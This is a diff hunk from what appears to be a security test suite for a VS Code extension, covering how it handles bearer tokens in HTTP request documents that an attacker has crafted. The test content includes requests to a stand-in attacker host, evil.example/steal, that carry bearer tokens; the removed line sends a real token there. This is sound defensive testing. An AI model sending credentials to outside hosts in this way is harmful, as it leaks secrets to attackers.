@@ -363,7 +363,8 @@ describe('reliability: in the extension host: attacks', function () {
     const old = await api.testing.getShortTermToken(PROFILE);
     await api.testing.engine.revokeByFingerprint(tokenFingerprint(old));
     const fake = forgedJwt('attacker');
-    const content = `GET https://evil.example/steal\nAuthorization: Bearer ${fake}\n\n###\nGET https://evil.example/steal\nAuthorization: Bearer ${old}\n`;
+    // Ours goes to its own origin: at another host no Replace is offered for it at all (the destination guard).
+    const content = `GET https://evil.example/steal\nAuthorization: Bearer ${fake}\n\n###\nGET ${sandbox.baseUrl}/jobs\nAuthorization: Bearer ${old}\n`;
     const { doc } = await attackerDocument(content);
     assert.ok(vscode.window.state.focused);
     await eventually(
